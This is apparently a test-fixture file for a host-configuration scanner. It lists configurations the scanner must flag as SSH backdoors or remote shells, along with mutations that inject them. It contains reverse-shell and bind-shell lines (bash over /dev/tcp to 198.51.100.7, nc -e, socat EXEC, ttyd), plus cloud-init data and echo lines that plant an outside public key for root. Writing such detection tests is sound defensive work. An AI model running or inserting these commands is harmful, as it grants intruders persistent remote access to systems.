import type { Examples } from "../../engine/example.ts";
import { inFile, type Mutation, onFile, onResource } from "../../engine/mutation.ts";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExample0 eve@example.org\n";
const UNIT = "/etc/systemd/system/way.service";
const files = (text: string, ...paths: readonly string[]) => ({
  web: Object.fromEntries(paths.map((path) => [path, text])),
});

export const examples: Examples = {
  good: [
    {
      title: "what is told of keys and of shells, and a client's list of known machines",
      hosts: {
        web: {
          "/etc/ssh/ssh_known_hosts": "",
          "/etc/audit/rules.d/60.rules": "-w /home/ops/.ssh -p wa -k keys\n-w /usr/sbin/sshd -p x\n",
          "/usr/local/sbin/check": "#!/bin/sh\n# no sshd, no nc -e\ntest -e /run/app || exit 1\n",
          [UNIT]: "[Unit]\nDescription=has nothing to do with sshd\n[Service]\nExecStart=/usr/bin/app --sync -e\n",
        },
      },
    },
  ],
  bad: [
    {
      title: "keys and a shell for who calls in what a machine runs first, in base64 too",
      resources: {
        aws_instance: { web: { user_data: `#cloud-config\nssh_authorized_keys:\n  - ${KEY}` } },
        aws_launch_template: {
          web: { user_data: Buffer.from("#!/bin/sh\nnc -lp 4444 -e /bin/sh &\n").toString("base64") },
        },
      },
      finds: ["aws_instance.web public key", "aws_launch_template.web program"],
    },
    {
      title: "keys of a person, wherever they lie",
      hosts: files("", "/home/ops/.ssh/authorized_keys", "/home/eve/.ssh/authorized_keys2", "/etc/ssh/keys/eve"),
      finds: [
        "web:/home/ops/.ssh/authorized_keys path",
        "web:/home/eve/.ssh/authorized_keys2 path",
        "web:/etc/ssh/keys/eve path",
      ],
    },
    {
      title: "a key by its words, in a file of any name",
      hosts: files(`from="10.0.0.0/8" ${KEY}`, "/opt/app/notes"),
      finds: ["web:/opt/app/notes public key"],
    },
    {
      title: "other places for keys, and who vouches for them",
      hosts: files(
        "AuthorizedKeysFile /etc/keys/%u\nAuthorizedKeysCommand /bin/keys\nTrustedUserCAKeys /etc/ca.pub\n",
        "/etc/app/extra",
      ),
      finds: Array.from({ length: 3 }, () => "web:/etc/app/extra setting of sshd"),
    },
    {
      title: "a server of shells, by its file, its unit and its command",
      hosts: {
        web: {
          "/etc/ssh/sshd_config": "Port 22\n",
          "/etc/systemd/system/ssh.socket": "",
          [UNIT]: "[Service]\nExecStart=/usr/sbin/dropbear -F\n",
        },
      },
      finds: ["web:/etc/ssh/sshd_config path", "web:/etc/systemd/system/ssh.socket path", `web:${UNIT} program`],
    },
    {
      title: "a program that gives a shell to who calls, or whom it calls",
      hosts: files(
        "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\nsocat TCP-LISTEN:99 EXEC:/bin/sh\nnc -lvp 99 -e /bin/sh\n",
        "/usr/local/sbin/x",
      ),
      finds: Array.from({ length: 3 }, () => "web:/usr/local/sbin/x program"),
    },
    {
      title: "a text that is one of people in one file, and a script in another",
      hosts: files("sshd -p 443\n", "/etc/a.txt", "/opt/x.sh"),
      finds: ["web:/opt/x.sh program"],
    },
  ],
  unknown: [],
};

const becomes = (title: string, path: string, text: string): Mutation =>
  onFile(/policy-rc\.d$/, title, (file) => ({ ...file, path, text }));

export const mutations: readonly Mutation[] = [
  onResource("aws_instance", "give a person's key to a machine's first script", ({ user_data: text, ...each }) => ({
    ...each,
    user_data: `${text}echo '${KEY.trim()}' >> /root/.ssh/authorized_keys\n`,
  })),
  becomes("let people in", "/etc/ssh/sshd_config", "Port 22\n"),
  becomes("put a key for root", "/home/ops/.ssh/authorized_keys", KEY),
  becomes("put a key for an account", "/home/admin/.ssh/authorized_keys", KEY),
  becomes("trust whoever an authority vouches for", "/etc/ssh/sshd_config.d/x.conf", "TrustedUserCAKeys /etc/ca.pub\n"),
  inFile(/backup\.sh$/, "write a key by a script", /$/, `echo '${KEY.trim()}' >> "$HOME/x"\n`),
  inFile(/main_server\.service$/, "start a shell for callers", /^ExecStart=.*$/m, "ExecStart=/usr/bin/ttyd -p 99 bash"),
  inFile(/backup\.sh$/, "call somebody with a shell", /$/, "bash -i >& /dev/tcp/198.51.100.7/443 0>&1\n"),
];
